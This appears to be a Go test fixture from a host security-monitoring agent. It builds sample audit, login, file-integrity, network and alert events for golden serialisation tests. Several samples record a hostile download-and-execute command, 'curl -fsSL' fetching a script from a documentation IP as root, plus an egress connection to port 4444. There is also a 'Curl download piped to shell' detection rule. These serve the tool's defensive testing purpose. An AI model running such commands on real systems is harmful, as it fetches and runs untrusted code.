package event

import "time"

// at is a fixed instant with nanoseconds, in UTC so that decoded times compare
// equal.
func at(sec int) time.Time {
	return time.Date(2025, 3, 14, 9, 26, 53, 123456789, time.UTC).Add(time.Duration(sec) * time.Second)
}

func sampleHost() *Host {
	return &Host{
		Name: "web-1", ID: "4c4c4544-0032-3510-8052-b4c04f4d3132", Hostname: "web-1.example.net",
		IP: []string{"10.0.0.5", "fe80::5054:ff:fe12:3456"}, MAC: []string{"52-54-00-12-34-56"},
		Architecture: "x86_64",
		OS: &OS{Name: "Debian GNU/Linux", Version: "12 (bookworm)", Family: "debian",
			Platform: "debian", Kernel: "6.1.0-18-amd64", Type: "linux"},
	}
}

func sampleAgent() *Agent {
	return &Agent{ID: "0195c2d4-7a10-7d3e-9a51-3b0f4c2e8d11", Name: "web-1", Version: "0.1.0", Type: "vigil"}
}

func base(sec int, kind, category, typ, action, dataset string) Event {
	t := at(sec)
	return Event{
		Timestamp: t,
		Event: Meta{
			ID: DeterministicID(t, "web-1", action), Kind: kind,
			Category: []string{category}, Type: []string{typ},
			Action: action, Dataset: dataset,
		},
		Host:  sampleHost(),
		Agent: sampleAgent(),
	}
}

// samples holds one representative event per row of the EVENTS.md catalogue;
// testdata/<name>.json is each one's golden serialisation.
func samples() map[string]Event {
	m := map[string]Event{}
	m["exec"] = sampleExec()

	e := base(1, KindEvent, CategoryProcess, TypeEnd, ActionExit, "vigil.audit")
	e.Process = &Process{PID: new(int64(4242)), Name: "bash", ExitCode: new(int64(0)), End: at(1)}
	m["exit"] = e

	e = base(2, KindEvent, CategoryAuthentication, TypeStart, ActionSSHLogin, "vigil.login")
	e.Event.Outcome = OutcomeFailure
	e.Message = "Failed password for invalid user admin from 203.0.113.9 port 52211 ssh2"
	e.User = &User{Name: "admin"}
	e.Source = &Endpoint{IP: "203.0.113.9", Port: new(int64(52211))}
	e.Process = &Process{Name: "sshd", PID: new(int64(811))}
	e.Auth = &Auth{Method: "password"}
	e.Related = &Related{User: []string{"admin"}, IP: []string{"203.0.113.9"}}
	m["ssh_login"] = e

	e = base(3, KindEvent, CategoryAuthentication, TypeStart, ActionUserLogin, "vigil.login")
	e.Event.Outcome = OutcomeSuccess
	e.User = &User{Name: "alice", ID: "1000", Terminal: "tty1"}
	e.Process = &Process{PID: new(int64(1201)), Name: "login", TTY: TTYFromName("tty1")}
	m["user_login"] = e

	e = base(4, KindEvent, CategorySession, TypeEnd, ActionUserLogout, "vigil.login")
	e.User = &User{Name: "alice", Terminal: "pts/0"}
	e.Source = &Endpoint{IP: "198.51.100.20"}
	m["user_logout"] = e

	e = base(5, KindEvent, CategoryProcess, TypeStart, ActionSudo, "vigil.login")
	e.Message = "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
	e.User = &User{Name: "alice", Effective: &UserRef{Name: "root", ID: "0"}, Terminal: "pts/0"}
	e.Process = &Process{CommandLine: "/usr/bin/systemctl restart nginx", WorkingDirectory: "/home/alice",
		Executable: "/usr/bin/systemctl", Args: []string{"/usr/bin/systemctl", "restart", "nginx"}}
	m["sudo"] = e

	e = base(6, KindEvent, CategoryAuthentication, TypeStart, ActionSudoAuth, "vigil.login")
	e.Event.Outcome = OutcomeFailure
	e.User = &User{Name: "bob", Effective: &UserRef{Name: "root"}}
	e.Process = &Process{CommandLine: "/bin/bash"}
	e.Auth = &Auth{Attempts: 3}
	m["sudo_auth"] = e

	e = base(7, KindEvent, CategoryIAM, TypeCreation, ActionUserAdded, "vigil.users")
	e.Event.Type = []string{TypeUser, TypeCreation}
	e.User = &User{Name: "deploy", ID: "1001", Group: &Group{ID: "1001", Name: "deploy"}}
	e.Group = &Group{ID: "1001", Name: "deploy"}
	m["user_added"] = e

	m["file_updated"] = sampleFileUpdated()

	e = base(9, KindEvent, CategoryFile, TypeChange, ActionMoved, "vigil.fim")
	e.File = &File{Path: "/etc/cron.d/backup", Name: "backup", Directory: "/etc/cron.d", Type: "file", Inode: "131090"}
	e.Vigil = &Vigil{File: &VigilFile{Previous: &File{Path: "/tmp/backup"}}}
	m["file_moved"] = e

	e = base(10, KindEvent, CategoryNetwork, TypeStart, ActionListenOpened, "vigil.ports")
	e.Network = &Network{Transport: "tcp", Type: "ipv4"}
	e.Source = &Endpoint{IP: "0.0.0.0", Port: new(int64(6379))}
	e.Process = &Process{PID: new(int64(977)), Name: "redis-server", Executable: "/usr/bin/redis-server"}
	e.User = &User{ID: "109", Name: "redis"}
	m["listen_opened"] = e

	e = base(11, KindEvent, CategoryNetwork, TypeConnection, ActionConnectionOpened, "vigil.audit")
	e.Tags = []string{TagFirstSeen}
	e.Network = &Network{Transport: "tcp", Direction: DirectionEgress, Type: "ipv4"}
	e.Source = &Endpoint{IP: "10.0.0.5", Port: new(int64(40112))}
	e.Destination = &Endpoint{IP: "192.0.2.77", Port: new(int64(4444))}
	e.Process = &Process{PID: new(int64(5120)), Name: "curl", Executable: "/usr/bin/curl"}
	e.User = &User{ID: "33", Name: "www-data"}
	m["connection_opened"] = e

	e = base(12, KindMetric, CategoryNetwork, TypeInfo, ActionTraffic, "vigil.traffic")
	e.Observer = &Observer{Ingress: &ObserverSide{Interface: &Interface{Name: "eth0"}}}
	e.Network = &Network{Bytes: new(int64(0)), Packets: new(int64(0))}
	m["traffic"] = e

	e = base(13, KindEvent, CategoryPackage, TypeChange, ActionPackageUpdated, "vigil.packages")
	e.Package = &Package{Name: "openssl", Version: "3.0.15-1~deb12u1", Architecture: "amd64", Type: "deb"}
	e.Vigil = &Vigil{Package: &VigilPackage{PreviousVersion: "3.0.11-1~deb12u2"}}
	m["package_updated"] = e

	e = base(14, KindEvent, CategoryDriver, TypeStart, ActionModuleLoaded, "vigil.modules")
	e.Vigil = &Vigil{Module: &Module{Name: "nf_tables"}}
	m["module_loaded"] = e

	e = base(15, KindEvent, CategoryConfiguration, TypeChange, ActionServiceEnabled, "vigil.services")
	e.Message = "service ssh.service enabled"
	e.File = &File{Path: "/etc/systemd/system/multi-user.target.wants/ssh.service"}
	m["service_enabled"] = e

	e = base(16, KindState, CategoryPackage, TypeInfo, ActionExistingPackage, "vigil.packages")
	e.Package = &Package{Name: "bash", Version: "5.2.15-2+b7", Architecture: "amd64", Type: "deb"}
	m["existing_package"] = e

	e = base(17, KindEvent, CategoryHost, TypeInfo, ActionAuditEventsLost, "vigil.audit")
	e.Vigil = &Vigil{Loss: &Loss{Count: 120, Reason: "sequence_gap", From: at(16), To: at(17), Stage: StageKernel}}
	m["audit_events_lost"] = e

	e = base(18, KindMetric, CategoryHost, TypeInfo, ActionCollectorHealth, "vigil.runner")
	e.Vigil = &Vigil{Collector: &Collector{Name: "audit", State: CollectorStateDegraded, Reason: "backlog near limit",
		Counters: map[string]int64{"events": 81234, "dropped": 0, "errors": 2}}}
	m["collector_health"] = e

	e = base(19, KindEvent, CategoryHost, TypeInfo, ActionHostOffline, "vigil.server")
	e.Message = "no heartbeat for 5m0s"
	m["host_offline"] = e

	m["alert"] = sampleAlert()
	return m
}

func sampleExec() Event {
	e := base(0, KindEvent, CategoryProcess, TypeStart, ActionExec, "vigil.audit")
	e.Event.Outcome = OutcomeSuccess
	e.Event.Module = "auditd"
	e.Event.Sequence = 88211
	e.Message = `type=EXECVE msg=audit(1741944413.123:88211): argc=3 a0="curl" a1="-fsSL" a2="http://192.0.2.77/x.sh"`
	e.Tags = []string{"ssh_session"}
	e.Labels = map[string]string{"env": "prod"}
	e.Process = &Process{
		PID: new(int64(5120)), PPID: new(int64(5011)), EntityID: "rJwnTfHF3qNZ1gBp",
		Executable: "/usr/bin/curl", Name: "curl", Args: []string{"curl", "-fsSL", "http://192.0.2.77/x.sh"},
		ArgsCount: new(int64(3)), CommandLine: "curl -fsSL http://192.0.2.77/x.sh",
		WorkingDirectory: "/tmp", Title: "curl -fsSL http://192.0.2.77/x.sh", TTY: TTYFromName("pts0"),
		Start:         at(0),
		Parent:        &ProcessRef{PID: new(int64(5011)), Executable: "/usr/bin/bash", Name: "bash"},
		SessionLeader: &ProcessRef{PID: new(int64(4990)), Name: "sshd"},
	}
	e.User = &User{ID: "0", Name: "root", Group: &Group{ID: "0", Name: "root"},
		Effective: &UserRef{ID: "0", Name: "root"}, Audit: &UserRef{ID: "1000", Name: "alice"}, Terminal: "pts0"}
	e.Auditd = &Auditd{Sequence: 88211, Session: "7", Result: "success",
		Summary: &AuditSummary{Actor: &AuditActor{Primary: "alice", Secondary: "root"},
			Object: &AuditObject{Type: "file", Primary: "/usr/bin/curl"}, How: "/usr/bin/curl"},
		Data: map[string]string{"syscall": "execve", "a0": "55d0c2a4b6f0", "exe": "/usr/bin/curl",
			"comm": "curl", "key": "exec", "tty": "pts0", "ses": "7"}}
	e.Related = &Related{User: []string{"root", "alice"}}
	e.Container = &Container{ID: "3f1e2d4c5b6a"}
	return e
}

func sampleFileUpdated() Event {
	e := base(8, KindEvent, CategoryFile, TypeChange, ActionUpdated, "vigil.fim")
	e.File = &File{Path: "/etc/passwd", Name: "passwd", Directory: "/etc", Type: "file",
		Size: new(int64(1873)), Mode: "0644", UID: "0", GID: "0", Owner: "root", Group: "root",
		Mtime: at(8), Ctime: at(8), Inode: "131075", Device: "259:2",
		Hash: &Hash{SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}
	e.Vigil = &Vigil{File: &VigilFile{Previous: &File{Size: new(int64(1822)), Mtime: at(-86400),
		Hash: &Hash{SHA256: "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752"}}}}
	e.User = &User{ID: "0", Name: "root", Audit: &UserRef{ID: "1000", Name: "alice"}}
	e.Process = &Process{PID: new(int64(6001)), Name: "useradd", Executable: "/usr/sbin/useradd"}
	e.Related = &Related{Hash: []string{e.File.Hash.SHA256}}
	return e
}

func sampleAlert() Event {
	e := base(20, KindAlert, CategoryProcess, TypeIndicator, "download_and_execute", "vigil.rules")
	e.Event.Type = []string{TypeIndicator, TypeStart}
	e.Event.Severity = new(int64(73))
	e.Message = "Download piped to shell by alice on web-1"
	e.Tags = []string{"attack.execution", "attack.t1059.004"}
	e.Rule = &Rule{ID: "0b2a5f8e-6c1d-4b47-9a53-6c2b0f1f3f10", Name: "Curl download piped to shell",
		Level: LevelHigh, Description: "A file is downloaded and executed in one command line.",
		Reference: []string{"https://attack.mitre.org/techniques/T1059/004/"}, Author: []string{"vigil"}}
	e.Threat = &Threat{Framework: "MITRE ATT&CK",
		Technique: &Technique{ID: []string{"T1059"}, Name: []string{"Command and Scripting Interpreter"},
			Subtechnique: &ThreatRef{ID: []string{"T1059.004"}, Name: []string{"Unix Shell"}}},
		Tactic: &ThreatRef{ID: []string{"TA0002"}, Name: []string{"Execution"}}}
	e.Vigil = &Vigil{Alert: &Alert{EventIDs: []string{DeterministicID(at(0), "web-1", ActionExec)},
		Count: 1, FirstSeen: at(0), LastSeen: at(0), Status: AlertStatusOpen}}
	e.User = &User{Name: "alice"}
	return e
}
